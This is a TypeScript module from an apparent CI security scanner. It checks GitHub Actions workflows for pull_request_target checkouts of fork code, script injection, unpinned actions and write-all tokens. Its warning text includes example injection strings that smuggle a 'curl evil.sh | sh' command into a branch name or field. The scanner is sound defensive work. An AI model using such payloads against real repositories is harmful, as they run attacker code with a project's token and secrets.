// Reviews one GitHub Actions workflow: pwn requests (I12), script injection, unpinned actions and token
// permissions (I13, split into three ids; see infra-rules.ts).
import type { Finding } from "../../domain/model.js";
import { infraRules } from "../infra/infra-rules.js";
import { anchorLine, type LineSpan, spanTouches } from "../infra/line-span.js";
import type { YamlDocument, YamlPath } from "../infra/parse-yaml-documents.js";
import { asList, asMap } from "../infra/plain-data.js";
import { withSeverity } from "../infra/with-severity.js";
import { type FindingSite, makeFinding } from "../make-finding.js";
import type { RuleDefinition } from "../rule.js";
import { untrustedReferences } from "./untrusted-expressions.js";

export interface WorkflowChange {
  path: string;
  addedLines: ReadonlySet<number>;
  /** The workflow source, to find `${{ … }}` on the lines of a script. */
  lines: readonly string[];
}

/** Triggers that run with the base repository's token and secrets on behalf of outside contributors. */
const privilegedTriggers = ["pull_request_target", "workflow_run"];

/** A `ref:`/`repository:` or a script that fetches the pull request's code instead of the base branch. */
const headRef =
  /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(?:sha|branch)|github\.event\.pull_request\.merge_commit_sha|refs\/pull\//;
const headRepository =
  /github\.event\.pull_request\.head\.repo\.full_name|github\.event\.workflow_run\.head_repository/;
const headFetchScript =
  /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|checkout|switch|pull)\b[^\n]*(?:github\.event\.pull_request\.head|github\.head_ref|refs\/pull\/|\bpull\/)/;

const fullSha = /^[0-9a-f]{40}$/i;
/** GitHub's own actions: maintained under the same trust as the runner, so an unpinned tag is minor. */
const firstPartyOwners = new Set(["actions", "github"]);

interface Step {
  step: Record<string, unknown>;
  path: YamlPath;
  jobId: string;
  index: number;
}

export function analyzeWorkflow(document: YamlDocument, change: WorkflowChange): Finding[] {
  const workflow = asMap(document.value);
  if (workflow === undefined) return [];
  const findings: Finding[] = [];
  const spanOf = (path: YamlPath) => document.spanOf(path);
  const touches = (span: LineSpan) => spanTouches(span, change.addedLines);
  const report = (rule: RuleDefinition, span: LineSpan, site: Omit<FindingSite, "path" | "line">) =>
    makeFinding(rule, { ...site, path: change.path, line: anchorLine(span, change.addedLines) });

  const triggers = triggerNames(workflow.on);
  const privileged = privilegedTriggers.filter((trigger) => triggers.includes(trigger));
  const triggerSpan = spanOf(["on"]);
  const jobs = Object.entries(asMap(workflow.jobs) ?? {}).flatMap(([jobId, value]) => {
    const job = asMap(value);
    return job === undefined ? [] : [{ jobId, job }];
  });
  const steps: Step[] = jobs.flatMap(({ jobId, job }) =>
    asList(job.steps).flatMap((value, index) => {
      const step = asMap(value);
      return step === undefined ? [] : [{ step, path: ["jobs", jobId, "steps", index], jobId, index }];
    }),
  );

  // I12: a privileged trigger plus a checkout of the PR head. Either half being new makes it this PR's.
  for (const { step, path, jobId, index } of privileged.length > 0 ? steps : []) {
    const checkout = checksOutHead(step);
    if (checkout === undefined) continue;
    const stepSpan = spanOf(path);
    const refSpan = spanOf([...path, ...checkout]);
    const span = [refSpan, stepSpan, triggerSpan].find(touches);
    if (span === undefined) continue;
    const trigger = privileged[0] ?? "pull_request_target";
    findings.push(
      report(infraRules.pwnRequest, span, {
        subject: `${jobId}.steps[${index}] checkout`,
        message:
          `Job \`${jobId}\` runs on \`${trigger}\` (base repository token and secrets) and checks out the pull ` +
          "request's code: any fork can change a build script, test or dependency and run it with those " +
          "credentials. Build PR code under `pull_request` and hand results to a privileged workflow as artifacts.",
        haltQuestion:
          `This workflow runs on \`${trigger}\` and checks out the PR head, so fork PRs can run code with a ` +
          "write token and secrets. Is this required? Which steps are isolated?",
      }),
    );
  }

  // Script injection: untrusted `${{ … }}` in `run:` or in `actions/github-script`'s `script:`.
  for (const { step, path, jobId, index } of steps) {
    const scriptPath = typeof step.run === "string" ? [...path, "run"] : githubScriptPath(step, path);
    if (scriptPath === undefined) continue;
    const span = spanOf(scriptPath);
    const field = scriptPath.at(-1);
    for (let line = span.start; line <= span.end; line++) {
      if (!change.addedLines.has(line)) continue;
      for (const match of (change.lines[line - 1] ?? "").matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
        const references = untrustedReferences(match[1] ?? "");
        const first = references[0];
        if (first === undefined) continue;
        const variable = (first.split(".").at(-1) ?? "value").replace(/\W/g, "_").toUpperCase();
        const use = field === "script" ? `process.env.${variable}` : `"$${variable}"`;
        findings.push(
          makeFinding(infraRules.scriptInjection, {
            path: change.path,
            line,
            subject: `${jobId}.steps[${index}] ${first}`,
            message:
              `\`${match[0].trim()}\` is pasted into the \`${field}:\` source before it runs, and ${whoChooses(first)} ` +
              `becomes code with this job's token and secrets. Pass it ` +
              `through \`env:\` (\`${variable}: ${match[0].trim()}\`) and read \`${use}\`.`,
          }),
        );
      }
    }
  }

  // Unpinned `uses:` on steps and on reusable-workflow jobs.
  const uses: Array<{ value: string; path: YamlPath; where: string }> = [
    ...jobs.flatMap(({ jobId, job }) =>
      typeof job.uses === "string" ? [{ value: job.uses, path: ["jobs", jobId, "uses"], where: jobId }] : [],
    ),
    ...steps.flatMap(({ step, path, jobId, index }) =>
      typeof step.uses === "string"
        ? [{ value: step.uses, path: [...path, "uses"], where: `${jobId}.steps[${index}]` }]
        : [],
    ),
  ];
  for (const { value, path, where } of uses) {
    const span = spanOf(path);
    const pin = unpinned(value);
    if (pin === undefined || !touches(span)) continue;
    const finding = report(infraRules.unpinnedAction, span, {
      subject: `${where} ${value}`,
      message: pin.message,
    });
    findings.push(pin.firstParty ? withSeverity(finding, "minor") : finding);
  }

  // Token permissions: `write-all` anywhere, or no top-level block on a privileged trigger.
  const permissionSites: Array<{ value: unknown; path: YamlPath; label: string }> = [
    { value: workflow.permissions, path: ["permissions"], label: "The workflow" },
    ...jobs.map(({ jobId, job }) => ({
      value: job.permissions,
      path: ["jobs", jobId, "permissions"],
      label: `Job \`${jobId}\``,
    })),
  ];
  for (const { value, path, label } of permissionSites) {
    const span = spanOf(path);
    if (value !== "write-all" || !touches(span)) continue;
    findings.push(
      report(infraRules.excessivePermissions, span, {
        subject: `${path.join(".")} write-all`,
        message:
          `${label} asks for \`permissions: write-all\`: every step, and every action it runs, gets a token ` +
          "that can push code, cut releases and edit settings. Grant only the scopes used (`contents: read`, " +
          "`pull-requests: write`, …).",
      }),
    );
  }
  const everyJobScoped = jobs.length > 0 && jobs.every(({ job }) => job.permissions !== undefined);
  if (
    privileged.length > 0 &&
    workflow.permissions === undefined &&
    !everyJobScoped &&
    touches(triggerSpan)
  ) {
    findings.push(
      report(infraRules.excessivePermissions, triggerSpan, {
        subject: "permissions missing",
        message:
          `This workflow runs on \`${privileged.join("`/`")}\` without a \`permissions:\` block, so its jobs get ` +
          "the repository's default token (read/write on many installations) while handling outside " +
          "contributions. Add `permissions: { contents: read }` at the top and grant writes per job.",
      }),
    );
  }
  return findings.sort((a, b) => (a.line ?? 0) - (b.line ?? 0));
}

/**
 * Who decides the value. The PR's own branch (`head_ref`) is named by whoever opens the PR, from a fork too,
 * and git allows `$`, `;` and backticks in branch names. `github.base_ref` is not untrusted: it is a branch
 * that already exists in the base repository, created by someone with write access (GitHub's script-injection
 * docs and Security Lab list `head_ref` only).
 */
function whoChooses(reference: string): string {
  const branch =
    /^github\.(?:head_ref|event\.pull_request\.head\.(?:ref|label)|event\.workflow_run\.(?:head_branch|pull_requests\.[^.]+\.head\.ref))$/;
  return branch.test(reference)
    ? `\`${reference}\` is the pull request's branch name, which whoever opens the PR picks (from a fork too): ` +
        'a branch named `x";curl$IFS"evil.sh"|sh;#`'
    : `\`${reference}\` is chosen by whoever opens the issue, PR or commit: a value like \`"; curl evil.sh | sh #\``;
}

/** `on: push`, `on: [push, pull_request]` or `on: { push: …, pull_request_target: … }`. */
function triggerNames(on: unknown): string[] {
  if (typeof on === "string") return [on];
  if (Array.isArray(on)) return on.filter((trigger): trigger is string => typeof trigger === "string");
  return Object.keys(asMap(on) ?? {});
}

/** The path (below the step) of what makes it fetch the PR head, or `undefined` if it does not. */
function checksOutHead(step: Record<string, unknown>): YamlPath | undefined {
  const uses = typeof step.uses === "string" ? step.uses : "";
  const inputs = asMap(step.with);
  if (/^actions\/checkout@/i.test(uses)) {
    if (typeof inputs?.ref === "string" && headRef.test(inputs.ref)) return ["with", "ref"];
    if (typeof inputs?.repository === "string" && headRepository.test(inputs.repository)) {
      return ["with", "repository"];
    }
  }
  if (typeof step.run === "string" && headFetchScript.test(step.run)) return ["run"];
  return undefined;
}

function githubScriptPath(step: Record<string, unknown>, path: YamlPath): YamlPath | undefined {
  const uses = typeof step.uses === "string" ? step.uses : "";
  const script = asMap(step.with)?.script;
  return /^actions\/github-script@/i.test(uses) && typeof script === "string"
    ? [...path, "with", "script"]
    : undefined;
}

/** Why `uses` is not pinned, or `undefined` when it is (or is local). */
function unpinned(uses: string): { message: string; firstParty: boolean } | undefined {
  const value = uses.trim();
  if (value.startsWith("./") || value.startsWith(".\\")) return undefined;
  if (value.startsWith("docker://")) {
    if (value.includes("@sha256:")) return undefined;
    return {
      firstParty: false,
      message:
        `\`${value}\` pulls a mutable image tag each run: whoever can push that tag runs code with this job's ` +
        "token and secrets. Pin the digest (`docker://image@sha256:…`).",
    };
  }
  const at = value.lastIndexOf("@");
  if (at === -1) return undefined; // not a valid reference; actionlint's concern, not ours
  const ref = value.slice(at + 1);
  if (fullSha.test(ref)) return undefined;
  const action = value.slice(0, at);
  const owner = action.split("/")[0]?.toLowerCase() ?? "";
  const firstParty = firstPartyOwners.has(owner);
  const who = firstParty ? "GitHub's own action" : "a third-party action";
  return {
    firstParty,
    message:
      `\`${value}\` is ${who} referenced by \`@${ref}\`, which can be moved to other code at any time; that ` +
      "code then runs with this job's token and secrets (tj-actions/changed-files, March 2025). Pin the commit: " +
      `\`uses: ${action}@<40-hex sha> # ${ref}\`.`,
  };
}
